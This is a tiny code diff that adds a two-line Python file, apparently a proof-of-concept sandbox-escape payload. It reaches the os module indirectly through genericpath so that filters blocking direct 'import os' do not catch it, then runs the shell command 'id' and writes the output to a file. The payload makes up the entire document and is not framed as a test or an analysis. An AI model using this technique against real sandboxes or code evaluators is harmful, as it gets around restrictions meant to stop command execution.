@@ -1,0 +1,2 @@
+from os.path import genericpath
+genericpath.os.system("id>pf")
